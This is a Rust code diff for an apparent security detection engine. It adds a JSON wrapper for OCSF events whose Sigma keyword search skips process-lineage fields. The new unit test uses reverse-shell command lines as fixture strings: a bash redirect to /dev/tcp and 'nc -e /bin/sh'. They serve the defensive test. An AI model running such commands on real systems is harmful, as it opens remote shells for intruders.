@@ -19,7 +19,9 @@ pub trait Event {
     fn field(&self, path: &FieldPath) -> Option<Value<'_>>;
 
     /// Calls `f` with every string value in the event, in document order (for Sigma
-    /// keyword searches, which look at all values).
+    /// keyword searches, which look at all values). Vigil's OCSF events leave out their
+    /// lineage context (`parent_process`, `ancestry`; see
+    /// [`is_lineage`](crate::model::is_lineage)).
     fn for_each_str<'a>(&'a self, f: &mut dyn FnMut(&'a str));
 }
 
@@ -184,6 +186,34 @@ impl Fields for serde_json::Map<String, serde_json::Value> {
     }
 }
 
+/// One of Vigil's OCSF events in its JSON form (read back from a file): fields as
+/// JSON, and a keyword search that, like the typed events', leaves out lineage context
+/// (`parent_process`, `ancestry`).
+#[derive(Debug, Clone, Copy)]
+pub struct OcsfJson<'a>(pub &'a serde_json::Value);
+
+fn visit_strs_no_lineage<'a>(v: &'a serde_json::Value, f: &mut dyn FnMut(&'a str)) {
+    use serde_json::Value as J;
+    match v {
+        J::String(s) => f(s),
+        J::Array(a) => a.iter().for_each(|e| visit_strs_no_lineage(e, f)),
+        J::Object(m) => m
+            .iter()
+            .filter(|(k, _)| !crate::model::is_lineage(k))
+            .for_each(|(_, e)| visit_strs_no_lineage(e, f)),
+        J::Null | J::Bool(_) | J::Number(_) => {}
+    }
+}
+
+impl Event for OcsfJson<'_> {
+    fn field(&self, path: &FieldPath) -> Option<Value<'_>> {
+        self.0.field_at(path, 0)
+    }
+    fn for_each_str<'a>(&'a self, f: &mut dyn FnMut(&'a str)) {
+        visit_strs_no_lineage(self.0, f)
+    }
+}
+
 impl Event for serde_json::Value {
     fn field(&self, path: &FieldPath) -> Option<Value<'_>> {
         self.field_at(path, 0)
@@ -251,6 +281,22 @@ mod tests {
             unreachable!()
         };
         assert!(std::ptr::eq(s.as_ptr(), orig.as_ptr()));
+    }
+
+    #[test]
+    fn ocsf_json_keywords_skip_lineage_but_fields_reach_it() {
+        let e = json!({"class_uid": 1007, "process": {"cmd_line": "sudo crontab",
+            "parent_process": {"cmd_line": "bash -i >& /dev/tcp/x/1"},
+            "ancestry": [{"cmd_line": "nc -e /bin/sh"}]}});
+        let ocsf = OcsfJson(&e);
+        let mut seen = Vec::new();
+        ocsf.for_each_str(&mut |s| seen.push(s.to_string()));
+        assert_eq!(seen, ["sudo crontab"]);
+        let parent = ocsf.field(&FieldPath::new("process.parent_process.cmd_line"));
+        assert_eq!(
+            parent.and_then(|v| v.as_str().map(String::from)).as_deref(),
+            Some("bash -i >& /dev/tcp/x/1")
+        );
     }
 
     #[test]
